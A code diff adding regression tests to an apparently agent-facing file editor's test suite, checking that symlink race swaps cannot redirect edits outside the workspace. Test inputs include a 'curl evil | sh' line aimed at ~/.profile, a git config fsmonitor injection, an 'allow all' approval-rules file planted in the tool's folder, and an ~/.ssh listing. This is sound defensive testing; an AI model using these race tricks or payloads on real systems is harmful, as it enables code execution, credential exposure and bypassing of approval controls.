@@ -46,9 +46,23 @@ while True:
 """
 
 
+FLICKER = r"""
+import os, sys
+name, target = sys.argv[1], sys.argv[2]
+print("swapping", flush=True)
+while True:
+    try:
+        os.symlink(target, name)
+        os.unlink(name)
+    except OSError:
+        pass
+"""
+
+
 @contextmanager
 def swapping(name: Path, other: Path, script: str = SWAPPER) -> Iterator[None]:
-    """`name` and `other` exchanged by another process, over and over, until the block ends."""
+    """`name` and `other` exchanged by another process, over and over, until the block ends
+    (or, with FLICKER, `name` made a link to `other` and removed again)."""
     process = subprocess.Popen(
         [sys.executable, "-c", script, str(name), str(other)],
         stdout=subprocess.PIPE,
@@ -176,6 +190,8 @@ def aliases_changed(scene: Scene) -> Callable[[], bool]:
 
 # --- writes through a file swapped for a link ------------------------------------------------
 
+
+EDIT = {"old_str": "--color", "new_str": "PWNED"}
 
 EDITS = [
     pytest.param(
@@ -456,3 +472,135 @@ def test_a_pipe_swapped_in_is_never_opened(scene: Scene, fields: dict[str, Any])
 def with_suppressed(action: Callable[[], object]) -> None:
     with suppress(OSError):
         action()
+
+
+# --- tries the fix was not designed around ---------------------------------------------------
+
+MORE_TRIES = TRIES * 2 // 3
+
+
+def test_a_folder_in_the_middle_swapped_for_a_link_outside(scene: Scene) -> None:
+    editor = scene.editor()
+    outside = scene.home / "project" / "src" / "notes.txt"
+    outside.parent.mkdir(parents=True)
+    outside.write_text(ALIASES)
+    (scene.workspace / "project" / "src").mkdir(parents=True)
+    rewriter = Rewriter(scene.workspace / "project" / "src" / "notes.txt", ALIASES)
+    (scene.workspace / "swap").symlink_to(scene.home / "project")
+
+    def escaped() -> bool:
+        if outside.read_text() == ALIASES:
+            return False
+        outside.write_text(ALIASES)
+        return True
+
+    def attempt() -> None:
+        rewriter.reset()
+        run(editor, command="str_replace", path="project/src/notes.txt", **EDIT)
+
+    with swapping(scene.workspace / "project", scene.workspace / "swap"):
+        tally = count(attempt, escaped, MORE_TRIES)
+    rewriter.close()
+    assert tally.held, f"{tally} (edits wrote the file in the home folder)"
+
+
+def test_a_file_swapped_for_a_link_to_the_git_config_is_never_written(scene: Scene) -> None:
+    subprocess.run(["git", "init", "-q", str(scene.workspace)], check=True)
+    git_config = scene.workspace / ".git" / "config"
+    original = git_config.read_text()
+    editor = scene.editor()
+    rewriter = Rewriter(scene.workspace / "notes.txt", "[core]\n")
+    (scene.workspace / "swap").symlink_to(git_config)
+
+    def escaped() -> bool:
+        if git_config.read_text() == original:
+            return False
+        git_config.write_text(original)
+        return True
+
+    def attempt() -> None:
+        rewriter.reset()
+        fields = {"command": "insert", "insert_line": 1, "new_str": "\tfsmonitor = ./x"}
+        run(editor, path="notes.txt", **fields)
+
+    with swapping(scene.workspace / "notes.txt", scene.workspace / "swap"):
+        tally = count(attempt, escaped, MORE_TRIES)
+    rewriter.close()
+    assert tally.held, f"{tally} (edits wrote .git/config)"
+
+
+def test_a_folder_swapped_for_ohtui_data_never_receives_a_create_with_the_sandbox_off(
+    scene: Scene,
+) -> None:
+    editor = scene.with_mode(SandboxMode.OFF).editor()
+    folder = scene.workspace / "conf"
+    folder.mkdir()
+    held = os.open(folder, os.O_RDONLY | os.O_DIRECTORY)
+    (scene.workspace / "swap").symlink_to(scene.config.parent)
+    planted = scene.config.parent / "approval-rules.json"
+
+    def escaped() -> bool:
+        with_suppressed(lambda: os.unlink("approval-rules.json", dir_fd=held))
+        if not planted.exists():
+            return False
+        planted.unlink()
+        return True
+
+    def attempt() -> None:
+        run(editor, command="create", path="conf/approval-rules.json", file_text="allow all")
+
+    with swapping(folder, scene.workspace / "swap"):
+        tally = count(attempt, escaped, MORE_TRIES)
+    os.close(held)
+    assert tally.held, f"{tally} (creates wrote into ohtui's own folder)"
+
+
+def test_a_listed_folder_swapped_for_a_hidden_one(scene: Scene) -> None:
+    editor = scene.editor()
+    (scene.workspace / "keys").mkdir()
+    (scene.workspace / "swap").symlink_to(scene.home / ".ssh")
+    with swapping(scene.workspace / "keys", scene.workspace / "swap"):
+        tally = count(*viewing(editor, "keys", secret="id_ed25519"), MORE_TRIES)
+    assert tally.held, f"{tally} (listings named the files in ~/.ssh)"
+
+
+def test_a_file_swapped_for_a_folder_is_always_answered(scene: Scene) -> None:
+    editor = scene.editor()
+    rewriter = Rewriter(scene.workspace / "notes.txt", ALIASES)
+    (scene.workspace / "swap").mkdir()
+    answers: set[str] = set()
+
+    def attempt() -> None:
+        rewriter.reset()
+        obs = run(editor, command="str_replace", path="notes.txt", **EDIT)
+        answers.add(obs.text.split(":")[0] if obs.is_error else "edited")
+        assert "Unexpected error" not in obs.text, obs.text
+
+    with swapping(scene.workspace / "notes.txt", scene.workspace / "swap"):
+        tally = count(attempt, lambda: False, MORE_TRIES)
+    rewriter.close()
+    assert tally.held, str(tally)
+    assert "edited" in answers  # the race lets the real edits through
+
+
+def test_a_new_name_flickering_as_a_link_outside_is_never_created_through(
+    scene: Scene,
+) -> None:
+    editor = scene.editor()
+    planted = scene.home / ".profile"
+    held = os.open(scene.workspace, os.O_RDONLY | os.O_DIRECTORY)
+
+    def escaped() -> bool:
+        with_suppressed(lambda: os.unlink("profile", dir_fd=held))
+        if not planted.exists():
+            return False
+        planted.unlink()
+        return True
+
+    def attempt() -> None:
+        run(editor, command="create", path="profile", file_text="curl evil | sh\n")
+
+    with swapping(scene.workspace / "profile", planted, script=FLICKER):
+        tally = count(attempt, escaped, MORE_TRIES)
+    os.close(held)
+    assert tally.held, f"{tally} (creates wrote ~/.profile)"
